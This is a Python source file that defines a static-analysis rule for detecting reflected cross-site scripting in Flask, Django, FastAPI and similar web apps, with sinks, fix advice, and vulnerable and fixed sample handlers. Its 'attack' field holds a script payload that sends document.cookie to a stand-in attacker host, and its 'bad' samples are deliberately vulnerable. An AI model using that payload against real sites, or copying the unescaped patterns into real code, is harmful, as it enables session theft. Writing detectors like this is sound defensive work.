"""A visitor's text given back as a page."""

from __future__ import annotations

from typing import TYPE_CHECKING

from vetline_analyzers.core.finding import Confidence, Severity
from vetline_analyzers.flow.rule import Arrival, FlowRule, Sink
from vetline_analyzers.flow.value import GENERATOR

if TYPE_CHECKING:
    from vetline_analyzers.flow.rule import Called

_BODY = ("content", "body", "text", "response")


def _is_html(called: Called) -> bool:
    """Whether a response is a page: it is, when nothing else is said."""
    kinds = (called.argument(n) for n in ("content_type", "mimetype", "media_type"))
    return all(kind is None or "html" in (kind.text or "html") for kind in kinds)


def _is_page(called: Called) -> bool:
    kinds = (called.argument(n) for n in ("content_type", "media_type"))
    return any(kind is not None and "html" in (kind.text or "") for kind in kinds)


def _judge(arrival: Arrival) -> bool:
    value = arrival.value
    if value.is_list and value.items:
        value = value.items[0]  # of a body, a status and headers
    if GENERATOR in value.names and value.rest is not None:
        value = value.rest  # sent piece by piece
    if value.items is not None:
        return False  # sent as JSON
    if arrival.sink.returned and value.pieces is None and any(t.parameter for t in arrival.traced):
        return False  # what became of a part of the address is not known
    return any(taint in arrival.traced for taint in value.taints)


RULE = FlowRule(
    id="python/reflected-html",
    title="Visitor's text given back as HTML",
    severity=Severity.HIGH,
    confidence=Confidence.HIGH,
    cwe=(79, 80),
    page="""
What a request brought is part of the page that is sent back, and nothing escaped it. A link with a script in it runs
that script in the browser of whoever follows it, with their session.
""",
    advice="Render a template, which escapes; or put the value through `markupsafe.escape`. Data is best sent as JSON.",
    attack="`/hello?name=<script>fetch('//evil.example/'+document.cookie)</script>` steals the session.",
    bad=(
        """\
from flask import Flask, request

app = Flask(__name__)

@app.route("/hello")
def hello():
    name = request.args.get("name")
    return f"<h1>Hello {name}</h1>"
""",
        """\
from django.http import HttpResponse

def hello(request):
    return HttpResponse("Hello " + request.GET["name"])
""",
        """\
from flask import Flask, make_response

app = Flask(__name__)

@app.route("/user/<name>")
def user(name):
    return make_response("No user %s" % name, 404)
""",
        """\
from django.http import StreamingHttpResponse

def rows(name):
    yield "<table>"
    yield f"<tr><td>{name}</td></tr>"

def table(request):
    return StreamingHttpResponse(rows(request.GET["name"]))
""",
    ),
    good=(
        """\
from flask import Flask, request
from markupsafe import escape

app = Flask(__name__)

@app.route("/hello")
def hello():
    name = request.args.get("name")
    return f"<h1>Hello {escape(name)}</h1>"
""",
        """\
from flask import Flask, request

app = Flask(__name__)

@app.route("/echo")
def echo():
    return {"name": request.args.get("name")}
""",
        """\
from django.http import HttpResponse

def hello(request):
    return HttpResponse("Hello " + request.GET["name"], content_type="text/plain")
""",
        """\
from flask import Flask

app = Flask(__name__)

@app.route("/user/<int:number>")
def user(number):
    return f"User {number}"
""",
        """\
from django.http import StreamingHttpResponse

def rows(name):
    yield "name\\n"
    yield f"{name}\\n"

def table(request):
    return StreamingHttpResponse(rows(request.GET["name"]), content_type="text/csv")
""",
    ),
    url="https://owasp.org/www-community/attacks/xss/",
    kind="html",
    sinks=(
        Sink(returned=True),
        Sink(
            names=(
                *(
                    "django.http.HttpResponse",
                    "HttpResponse",
                    "flask.make_response",
                    "make_response",
                ),
                *(
                    "flask.Response",
                    "werkzeug.wrappers.Response",
                    "django.http.HttpResponseBadRequest",
                    "django.http.StreamingHttpResponse",
                    "StreamingHttpResponse",
                ),
                *(
                    "django.http.HttpResponseNotFound",
                    "HttpResponseBadRequest",
                    "HttpResponseNotFound",
                ),
                *(
                    "starlette.responses.HTMLResponse",
                    "fastapi.responses.HTMLResponse",
                    "HTMLResponse",
                ),
                *(
                    "sanic.response.html",
                    "self.response.out.write",
                    "self.response.write",
                    "webapp2.Response",
                ),
            ),
            arguments=(0, *_BODY),
            when=_is_html,
        ),
        Sink(
            names=("aiohttp.web.Response", "web.Response"),
            arguments=("text", "body"),
            when=_is_page,
        ),
        Sink(
            names=(
                "fastapi.responses.StreamingResponse",
                "starlette.responses.StreamingResponse",
                "StreamingResponse",
            ),
            arguments=(0, "content"),
            when=_is_page,
        ),
        Sink(names=("self.write", "self.finish", "self.wfile.write")),
    ),
    traced="{label} is given back as HTML here: a script in it runs in the visitor's browser. Escape it.",
    judge=_judge,
)
